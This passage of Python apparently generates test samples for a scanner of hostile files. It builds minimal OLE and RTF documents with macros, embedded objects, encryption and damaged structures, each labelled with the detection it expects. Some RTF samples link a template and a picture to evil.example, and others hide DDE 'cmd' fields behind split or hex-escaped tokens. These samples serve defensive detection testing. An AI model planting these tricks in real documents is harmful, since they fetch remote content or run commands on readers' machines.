    yield "ctls.xls", ole.xls(Ctls=bytes(300)), "active"
    yield "macro.ppt", ole.ppt(ole.ppt_record(0x03FF, ole.ppt_record(0x0400, struct.pack("<III", 1, 1, 2)), container=True)), "macro"
    yield "object.ppt", ole.ppt(ole.ppt_record(0x1011, bytes(100))), "embedded"
    yield "program.ppt", ole.ppt(ole.ppt_record(0x0FF3, struct.pack("<IIBBBBI", 0, 0, 2, 0, 0, 0, 0))), "active"
    yield "locked.ppt", ole.ppt(token=0xF3D1C4DF), "encrypted"
    yield "message.msg", ole.ole({"__properties_version1.0": bytes(100), "__nameid_version1.0": {"__substg1.0_00020102": bytes(16)}}), "mail"
    yield "strange.doc", ole.doc(Strange=bytes(100)), "member"
    cyclic = bytearray(ole.doc())
    at = 512 * (1 + struct.unpack_from("<I", cyclic, 76)[0])
    struct.pack_into("<I", cyclic, at, 0)
    yield "loop.doc", bytes(cyclic), ("damaged", "mismatch", "type")
    yield "cut.doc", ole.doc()[:2000], ("damaged", "type")
    yield "object.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}", "embedded"
    yield "object-split.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\n\\objdata\n01 05}}}", ("embedded", "remote")
    yield "head.rtf", b"{\\rt{\\object\\objdata 01}}", "hidden"
    yield "linked.rtf", b"{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/x}}}}}", "remote"
    yield "template.rtf", b"{\\rtf1{\\*\\template http://evil.example/t}x}", "remote"
    yield "dde.rtf", b"{\\rtf1{\\field{\\*\\fldinst {DD}{EAUTO cmd x}}{\\fldrslt x}}}", "active"
    yield "dde-hex.rtf", b"{\\rtf1{\\field{\\*\\fldinst \\'44\\'44E cmd x}{\\fldrslt x}}}", "active"
    yield "bin.rtf", b"{\\rtf1 x{\\bin4 {}{}}}", "hidden"
    yield "tail.rtf", b"{\\rtf1 x}" + b"more text", "polyglot"
    yield "cut.rtf", b"{\\rtf1 x", "damaged"


def hostile():
    for group in (programs, scripts, shortcuts, disks, others, archives, polyglots, images, pdfs, new_office, old_office):
        for name, data, rules in group():
            yield group.__name__, name, data, (rules,) if isinstance(rules, str) else rules
